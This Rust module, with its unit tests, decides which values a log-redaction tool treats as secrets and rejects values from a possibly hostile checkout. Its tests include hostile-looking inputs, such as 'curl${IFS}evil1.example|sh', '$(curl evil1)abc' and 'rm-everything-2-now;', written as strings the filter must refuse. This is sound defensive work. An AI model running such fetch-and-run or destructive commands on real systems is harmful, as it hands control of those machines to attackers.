//! Which values may be looked for: what is a word, a number, a path, an address or a program would mask half a log.

use zeroize::Zeroizing;

/// The shortest value that is looked for, in characters.
const MIN_CHARACTERS: usize = 8;

/// The shortest value from a checkout, in characters.
const MIN_CHARACTERS_OF_A_CHECKOUT: usize = 12;

/// The longest value from a checkout, in bytes.
const MAX_BYTES_OF_A_CHECKOUT: usize = 512;

/// Letters of one case that are fewer than these are a word, whatever they mean.
const WORD: usize = 12;

/// A name made of words is told from a passphrase by its length, in bytes.
const PASSPHRASE: usize = 20;

/// Words that stand in variables of secret names, and are none. What has fewer letters than [`WORD`] needs no mention.
const COMMON: &[&str] = &[
    "accessibility",
    "accesskeyid",
    "administrator",
    "administrators",
    "alphanumeric",
    "anthropic",
    "applications",
    "architecture",
    "authenticated",
    "authentication",
    "authenticator",
    "authorization",
    "authorizationcode",
    "authorized",
    "availability",
    "certificates",
    "clientcredentials",
    "cloudformation",
    "collaboration",
    "communication",
    "configuration",
    "configurations",
    "containerregistry",
    "continuousintegration",
    "credentialhelper",
    "credentialmanager",
    "cryptography",
    "dependencies",
    "developement",
    "developers",
    "directories",
    "documentation",
    "environmental",
    "environments",
    "experimental",
    "externalsecrets",
    "functionality",
    "githubactions",
    "implementation",
    "impersonation",
    "infrastructure",
    "initialization",
    "installation",
    "instrumentation",
    "integrations",
    "intelligence",
    "international",
    "kubernetes",
    "localhostonly",
    "localization",
    "managedidentity",
    "microservice",
    "microservices",
    "notification",
    "notifications",
    "observability",
    "opentelemetry",
    "optimization",
    "organization",
    "organizations",
    "orchestration",
    "parameterstore",
    "passwordless",
    "performance",
    "personalaccesstoken",
    "preproduction",
    "productionready",
    "registration",
    "repositories",
    "requirements",
    "secretmanager",
    "secretsmanager",
    "secretservice",
    "securestring",
    "serviceaccount",
    "serviceprincipal",
    "specification",
    "subscription",
    "subscriptions",
    "transactions",
    "transformation",
    "undetermined",
    "unauthenticated",
    "unauthorized",
    "unrestricted",
    "verification",
    "visualization",
    "vulnerabilities",
    "wincredentials",
];

/// What people write where a secret is to be put in, in lower case and without separators.
const PLACEHOLDERS: &[&str] = &[
    "accesstoken",
    "apikeyhere",
    "changeit",
    "changeme",
    "changethis",
    "dummypassword",
    "dummysecret",
    "dummytoken",
    "enteryour",
    "examplekey",
    "examplepassword",
    "examplesecret",
    "exampletoken",
    "insertyour",
    "notasecret",
    "placeholder",
    "putyour",
    "replaceme",
    "replacethis",
    "replacewith",
    "secrethere",
    "tobereplaced",
    "tokenhere",
    "yourapi",
    "yourkey",
    "yourpassword",
    "yoursecret",
    "yourtoken",
];

/// Programs with a name of eight characters and more that does not look like a word. Shorter ones need no mention.
const PROGRAMS: &[&str] = &[
    "ansible-galaxy",
    "ansible-lint",
    "ansible-playbook",
    "ansible-vault",
    "apt-cache",
    "apt-get",
    "aws-vault",
    "base64",
    "bitwarden-cli",
    "cargo-clippy",
    "cloud-init",
    "cmd.exe",
    "docker-compose",
    "docker-machine",
    "fd-find",
    "firewall-cmd",
    "git-credential-cache",
    "git-credential-manager",
    "git-credential-oauth",
    "git-credential-osxkeychain",
    "git-credential-store",
    "git-crypt",
    "git-filter-repo",
    "git-lfs",
    "gnome-keyring",
    "gnome-keyring-daemon",
    "golangci-lint",
    "google-chrome",
    "gpg-agent",
    "gpg-connect-agent",
    "k3s",
    "kdbxtool",
    "mysql-client",
    "node-gyp",
    "openssl-1.1",
    "pinentry-curses",
    "pinentry-gnome3",
    "pinentry-gtk-2",
    "pinentry-mac",
    "pinentry-qt",
    "pinentry-tty",
    "pre-commit",
    "python3.10",
    "python3.11",
    "python3.12",
    "python3.13",
    "python3.14",
    "redis-cli",
    "rust-analyzer",
    "secret-tool",
    "sha256sum",
    "sha512sum",
    "ssh-add",
    "ssh-agent",
    "ssh-copy-id",
    "ssh-keygen",
    "ssh-keyscan",
    "systemd-ask-password",
    "systemd-creds",
    "update-alternatives",
    "vault-env",
    "vim-gtk3",
    "wl-clipboard",
    "x86_64-linux-gnu-gcc",
    "xdg-open",
];

/// The first words of commands that print a secret, and so stand where one could.
const FIRST_WORDS: &[&str] = &[
    "aws",
    "az",
    "bash",
    "bw",
    "cat",
    "chamber",
    "cmd",
    "curl",
    "docker",
    "echo",
    "gcloud",
    "gh",
    "git",
    "glab",
    "gopass",
    "gpg",
    "heroku",
    "kubectl",
    "node",
    "op",
    "osascript",
    "pass",
    "powershell",
    "pwsh",
    "python",
    "python3",
    "rbw",
    "secret-tool",
    "security",
    "sh",
    "sops",
    "ssh",
    "sudo",
    "vault",
    "zsh",
];

/// Whether a value may be looked for, whoever says that it is a secret.
pub fn is_fit(value: &str) -> bool {
    let plain = plain(value);
    value.chars().count() >= MIN_CHARACTERS
        && distinct(value) >= 4
        && !value.contains("[REDACTED")
        && !is_number(value)
        && !is_reference(value)
        && !is_placeholder(&plain)
        && !is_name(value, &plain)
        && !is_path(value)
        && !is_address(value)
        && !is_locale(value)
        && !is_command(value)
        && !PROGRAMS.contains(&value)
}

/// Whether a value may be looked for although the checkout says so that is worked on, which may be hostile: it must not
/// be able to erase its own commands from the record. `secret_name`: whether its name says that it is a secret.
///
/// So it is no program, no option, no file and no piece of shell, and looks as if nobody had chosen it.
pub fn is_fit_from_a_checkout(value: &str, secret_name: bool) -> bool {
    const SHELL: &str = "|;<>(){}[]`\\'\"*?";
    let letters = value.bytes().filter(u8::is_ascii_alphabetic).count();
    let digits = value.bytes().filter(u8::is_ascii_digit).count();
    let cases = value.bytes().any(|b| b.is_ascii_lowercase()) && value.bytes().any(|b| b.is_ascii_uppercase());
    is_fit(value)
        && value.chars().count() >= MIN_CHARACTERS_OF_A_CHECKOUT
        && value.len() <= MAX_BYTES_OF_A_CHECKOUT
        && !value.chars().any(|c| c.is_whitespace() || c.is_control() || SHELL.contains(c))
        && !["$(", "${", "&&", "..", "::"].iter().any(|shell| value.contains(shell))
        && !value.starts_with(['-', '.', '~', '$', '@', '%'])
        && !has_extension(value)
        && letters > 0
        && (digits > 0 || cases && value.len() >= PASSPHRASE)
        && (secret_name || looks_random(value) && !is_digest(value))
}

/// Letters and digits alone, in lower case.
fn plain(value: &str) -> Zeroizing<String> {
    let mut plain = Zeroizing::new(String::with_capacity(value.len()));
    plain.extend(value.chars().filter(char::is_ascii_alphanumeric).map(|character| character.to_ascii_lowercase()));
    plain
}

fn distinct(value: &str) -> usize {
    let mut seen: Vec<char> = Vec::with_capacity(4);
    for character in value.chars() {
        if !seen.contains(&character) {
            seen.push(character);
            if seen.len() == 4 {
                break;
            }
        }
    }
    seen.len()
}

/// A number, with a unit or without, a version, a date, a range of addresses.
fn is_number(value: &str) -> bool {
    let number = value.trim_end_matches(|c: char| c.is_ascii_alphabetic());
    let value = if value.len() - number.len() <= 3 { number } else { value };
    !value.is_empty() && value.bytes().all(|byte| byte.is_ascii_digit() || b"+-.,:/_ TZ".contains(&byte))
        || value.len() <= 24 && value.parse::<f64>().is_ok()
}

/// Where a secret is, and not the secret: a variable, a template, an entry of a store.
fn is_reference(value: &str) -> bool {
    let named = |rest: &str| rest.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
    value.starts_with("${")
        || value.starts_with("$(")
        || value.strip_prefix('$').is_some_and(|rest| named(rest) && !rest.contains('$'))
        || value.contains("{{")
        || value.starts_with('<') && value.ends_with('>')
        || value.starts_with('%') && value.ends_with('%')
        || ["arn:", "vault:", "file:", "env:", "keyring:", "keychain:", "secretref:", "op:"]
            .iter()
            .any(|scheme| value.starts_with(scheme))
}

fn is_placeholder(plain: &str) -> bool {
    PLACEHOLDERS.iter().any(|placeholder| {
        plain.starts_with(placeholder) && plain.len() <= placeholder.len() + 16 || plain.ends_with(placeholder)
    }) && !looks_random(plain)
}

/// A word, or a name made of words.
fn is_name(value: &str, plain: &str) -> bool {
    let is_word = |part: &str| {
        let lower = part.bytes().all(|byte| byte.is_ascii_lowercase());
        let upper = part.bytes().all(|byte| byte.is_ascii_uppercase());
        let capitalized = part.split_at_checked(1).is_some_and(|(first, rest)| {
            first.bytes().all(|byte| byte.is_ascii_uppercase()) && rest.bytes().all(|byte| byte.is_ascii_lowercase())
        });
        lower || upper || capitalized
    };
    if COMMON.contains(&plain) {
        return true;
    }
    let parts: Vec<&str> = value.split(['-', '_', '.', ':', ',', ' ', '=']).filter(|part| !part.is_empty()).collect();
    match parts.as_slice() {
        [word] => word.len() < WORD && is_word(word),
        parts => {
            parts.iter().all(|part| is_word(part) || part.len() <= 3 && is_number(part))
                && (value.len() < PASSPHRASE || parts.len() < 3)
        }
    }
}

/// A file's path: what stands between its slashes was chosen by somebody.
fn is_path(value: &str) -> bool {
    let begins = begins_as_path(value);
    let chosen = |part: &str| {
        part.chars().all(|c| c.is_alphanumeric() || "-_.@+ ~:".contains(c)) && transitions(part) < 3 && part.len() <= 64
    };
    let parts = value.split(['/', '\\']);
    (begins || value.contains('/')) && parts.clone().all(chosen) && (begins || parts.count() >= 2)
}

fn begins_as_path(value: &str) -> bool {
    ["/", "./", "../", "~"].iter().any(|start| value.starts_with(start))
        || value.as_bytes().first_chunk::<3>().is_some_and(|[drive, colon, slash]| {
            drive.is_ascii_alphabetic() && *colon == b':' && matches!(slash, b'\\' | b'/')
        })
}

/// A URL, a host with or without a port, an e-mail address; whatever credentials are in a URL have been taken out.
fn is_address(value: &str) -> bool {
    if let Some((scheme, rest)) = value.split_once("://") {
        return scheme.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"+-.:".contains(&byte))
            && !rest.contains(char::is_whitespace);
    }
    let host = match value.split_once('@') {
        Some((user, host)) if user.bytes().all(|b| b.is_ascii_lowercase() || b"._-+".contains(&b)) => host,
        Some(_) => return false,
        None => value,
    };
    let host = host.split_once(':').map_or(host, |(name, port)| {
        if !port.is_empty() && port.bytes().all(|byte| byte.is_ascii_digit()) { name } else { host }
    });
    is_host(host)
}

fn is_host(host: &str) -> bool {
    let label = |label: &str| {
        (1..=40).contains(&label.len())
            && label.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-')
            && transitions(label) < 3
    };
    let mut labels = host.split('.');
    let last = labels.next_back().unwrap_or_default();
    last == "localhost"
        || (2..=12).contains(&last.len())
            && last.bytes().all(|byte| byte.is_ascii_lowercase())
            && labels.clone().count() > 0
            && labels.all(label)
}

/// `en_US.UTF-8`, `sr_RS@latin`.
fn is_locale(value: &str) -> bool {
    let (name, _) = value.split_once(['.', '@']).unwrap_or((value, ""));
    match name.split_once('_') {
        Some((language, country)) => {
            (2..=3).contains(&language.len())
                && language.bytes().all(|byte| byte.is_ascii_lowercase())
                && country.len() == 2
                && country.bytes().all(|byte| byte.is_ascii_uppercase())
        }
        None => matches!(name, "C" | "POSIX"),
    }
}

/// Several words of which the first is a program's.
fn is_command(value: &str) -> bool {
    let mut words = value.split_ascii_whitespace();
    let first = words.next().unwrap_or_default().trim_start_matches('!');
    let name = first.rsplit('/').next().unwrap_or_default();
    words.next().is_some()
        && (FIRST_WORDS.contains(&name) || PROGRAMS.contains(&name) || begins_as_path(first) && is_path(first))
}

/// Whether a text looks like the name of a file.
fn has_extension(value: &str) -> bool {
    value.rsplit_once('.').is_some_and(|(_, extension)| {
        (1..=5).contains(&extension.len())
            && extension.bytes().all(|byte| byte.is_ascii_alphanumeric())
            && extension.starts_with(|c: char| c.is_ascii_alphabetic())
    })
}

/// A commit, a digest, a UUID: who names one of those by a name that promises no secret means to hide it.
fn is_digest(value: &str) -> bool {
    value.bytes().all(|byte| byte.is_ascii_hexdigit() || byte == b'-')
}

/// Whether nobody has chosen this: a long run in which letters, digits and cases change often.
pub(super) fn looks_random(value: &str) -> bool {
    value.split(|c: char| !c.is_ascii_alphanumeric()).any(|run| {
        run.len() >= 16
            && run.bytes().any(|byte| byte.is_ascii_digit())
            && run.bytes().any(|byte| byte.is_ascii_alphabetic())
            && transitions(run) >= 4
    })
}

/// How often letters follow digits, digits letters, and capitals small letters.
fn transitions(text: &str) -> usize {
    let class = |byte: u8| match byte {
        b'a'..=b'z' => 1,
        b'A'..=b'Z' => 2,
        b'0'..=b'9' => 3,
        _ => 0,
    };
    let pairs = text.as_bytes().windows(2).filter_map(<[u8]>::first_chunk::<2>);
    pairs
        .filter(|[a, b]| match (class(*a), class(*b)) {
            // A word begins with a capital.
            (0, _) | (_, 0) | (2, 1) => false,
            (a, b) => a != b,
        })
        .count()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_stands_everywhere_is_never_looked_for() {
        for value in [
            "hunter2",
            "production",
            "PRODUCTION",
            "Production",
            "localhost",
            "localhost:5432",
            "db.internal.example.com",
            "db-1.eu-west-1.example.com:5432",
            "authentication",
            "my-app-secret",
            "company-production",
            "1234567890123",
            "3.14159265",
            "2024-01-02T03:04:05Z",
            "3600000ms",
            "true true",
            "aaaaaaaaaaaa",
            "xxxxxxxx",
            "changeme123",
            "your-api-key-here",
            "YOUR_API_KEY",
            "$GITHUB_TOKEN",
            "${GITHUB_TOKEN:-x1y2}",
            "{{ secrets.TOKEN_1 }}",
            "<my-token-1>",
            "op://vault/item/field",
            "arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbC1d2",
            "/run/secrets/db_password",
            "~/.ssh/id_ed25519",
            "./config/master.key",
            "config/master.key",
            "C:\\Users\\me\\key.pem",
            "https://login.example.com/oauth/token",
            "robot@example.com",
            "en_US.UTF-8",
            "C.UTF-8",
            "docker-compose",
            "git-credential-osxkeychain",
            "security find-generic-password -w -s api1",
            "!aws codecommit credential-helper $@",
            "[REDACTED:known-value:01234567]",
        ] {
            assert!(!is_fit(value), "{value}");
        }
    }

    #[test]
    fn what_is_a_secret_may_be_looked_for() {
        for value in [
            "hunter22",
            "S3cure-Pa55",
            "correct horse battery staple",
            "correct-horse-battery-staple",
            "trustnobodyever",
            concat!("ghp", "_FAKEabcdefghijklmnopqrstuvwxyz012345"),
            concat!("SG.FAKEabcdefghijklmnopqr.", "stuvwxyz0123456789ABCDEFGHIJKLMNOPQRSTUVWXY"),
            concat!("/FAKEzQ8+2kLm9/", "xYz7RtP0wVbN4cD6eF8gH1jK"),
            concat!("FAKEzQ8+2kLm9/", "xYz7RtP0wVbN4cD6eF8gH1jK"),
            "12345678-90ab-cdef-1234-567890abcdef",
            "pässwörter!",
            "s3cr3t.pass",
            "p@ss w0rd!",
            "FAKE1234==",
            "$ecret$1$",
        ] {
            assert!(is_fit(value), "{value}");
        }
    }

    #[test]
    fn what_names_a_secret_is_a_reference() {
        for value in ["${X", "$(x", "$NAME_1", "a{{b", "<x y>", "%NAME%", "arn:x", "op:x", "secretref:x"] {
            assert!(is_reference(value), "{value}");
        }
        for value in ["$a$b", "$a-b", "<x", "x>", "%x", "x%", "opx"] {
            assert!(!is_reference(value), "{value}");
        }
    }

    #[test]
    fn a_word_for_a_secret_is_a_placeholder_with_little_behind_it() {
        for value in ["changeme", "changeme12", "mychangeme", "changemechangemechangeme"] {
            assert!(is_placeholder(value), "{value}");
        }
        assert!(is_placeholder("changemeandsomesixteenab"));
        for value in ["changemeandsomesixteenabc", "mychangeme12", ""] {
            assert!(!is_placeholder(value), "{value}");
        }
    }

    #[test]
    fn names_are_told_from_passphrases_by_their_length() {
        for (value, is) in [
            ("hunter", true),
            ("Hunter", true),
            ("HUNTER", true),
            ("elevenchars", true),
            ("my-app_x.y", true),
            ("a-12-b", true),
            ("one-two-three-four1", false),
            ("twelveletter", false),
            ("one-two-three-fourx", true),
            ("one-two-three-fourxy", false),
            ("averylongone-andanother", true),
            ("a-1234-b", false),
            ("aBc-d", false),
        ] {
            assert_eq!(is_name(value, value), is, "{value}");
        }
    }

    #[test]
    fn a_path_is_told_from_a_secret_by_what_stands_between_its_slashes() {
        for value in ["/srv/app", "./x1b", "../x", "~", "a/b.c", "c:/x", "c:\\x", "/srv/node-22x", "docs/a b"] {
            assert!(is_path(value), "{value}");
        }
        let part = |length: usize| format!("/srv/{}", "x".repeat(length));
        assert!(is_path(&part(64)) && !is_path(&part(65)));
        for value in ["x", "c:x", "docs/a,b", "/srv/x1b2", "x1b2/app", "/srv/a=b"] {
            assert!(!is_path(value), "{value}");
        }
    }

    #[test]
    fn what_looks_random_is_a_long_run_of_letters_and_digits_that_change_often() {
        for value in ["FAKEa1b2c3d4e5f6", "x-FAKEa1b2c3d4e5f6.y", "abcdefghijkl1A2b"] {
            assert!(looks_random(value), "{value}");
        }
        for value in [
            "FAKEa1b2c3d4e5f",
            "a1b2c3d4",
            "a1b2c3d4-a1b2c3d4",
            "abcdefghijkl1A22",
            "abCdEFghIJklMNop",
            "1234567890123456",
        ] {
            assert!(!looks_random(value), "{value}");
        }
    }

    #[test]
    fn addresses_hosts_and_places_are_told_from_secrets() {
        for value in
            ["https://a", "git+ssh://x", "me@example.com", "first.last+x@example.com", "localhost", "db.internal:5432"]
        {
            assert!(is_address(value), "{value}");
        }
        for value in ["a!b://x", "https://a b", "Me7@example.com", "me@7", "db.internal:x", "db.internal:", "x"] {
            assert!(!is_address(value), "{value}");
        }
        for (value, is) in
            [("en_US.UTF-8", true), ("sr_RS@latin", true), ("C", true), ("en_us", false), ("e_US", false)]
        {
            assert_eq!(is_locale(value), is, "{value}");
        }
        for (value, is) in [("aws x", true), ("aws", false), ("/opt/x y", true), ("zebra x", false), ("!aws x", true)] {
            assert_eq!(is_command(value), is, "{value}");
        }
        for (value, is) in [("a.sh", true), ("a.7z", false), ("a.abcdef", false), ("a.", false), ("a", false)] {
            assert_eq!(has_extension(value), is, "{value}");
        }
    }

    #[test]
    fn a_hostile_checkout_cannot_name_what_it_does() {
        for value in [
            "hunter22",
            "S3cure-Pa55",
            "correct-horse-battery-staple",
            "correct horse battery staple 1",
            "docker-compose",
            "curl|sh#12345",
            "curl${IFS}evil1.example|sh",
            "$(curl evil1)abc",
            "--dangerously-skip-2",
            "-rf2-all-of-it",
            "Exfiltrate1.sh",
            "../../exfiltrate2",
            "rm-everything-2-now;",
            "dangerously-skip-permissions",
            "0123456789abcdef0123456789abcdef01234567890",
        ] {
            assert!(!is_fit_from_a_checkout(value, false), "{value}");
        }
        for value in [
            "curl|sh#12345",
            "Exfiltrate1.sh",
            "--dangerously-skip-2",
            "dangerously-skip-permissions",
            "S3cure Pa55word!",
            "S3cure\u{7f}Pa55word!",
            "S3cure(Pa55word!",
            "S3cure&&Pa55word!",
            "S3cure..Pa55word!",
            "S3cure::Pa55word!",
            "S3cure$(Pa55word!",
            "-S3cure-Pa55word!",
            ".S3cure-Pa55word!",
            "~S3cure-Pa55word!",
            "$S3cure-Pa55word!",
            "@S3cure-Pa55word!",
            "%S3cure-Pa55word!",
            "1234567890123456!",
        ] {
            assert!(!is_fit_from_a_checkout(value, true), "{value}");
        }
        let commit = "0123456789abcdef0123456789abcdef01234567";
        assert!(!is_fit_from_a_checkout(commit, false));
    }

    #[test]
    fn a_secret_of_a_checkout_may_be_looked_for() {
        for (value, secret_name) in [
            (concat!("sk_", "live_FAKEa1B2c3D4e5F6g7H8"), false),
            ("S3cure-Pa55word!", true),
            ("0123456789abcdef0123456789abcdef", true),
            ("CorrectHorseBatteryStaple", true),
        ] {
            assert!(is_fit_from_a_checkout(value, secret_name), "{value}");
        }
    }
}
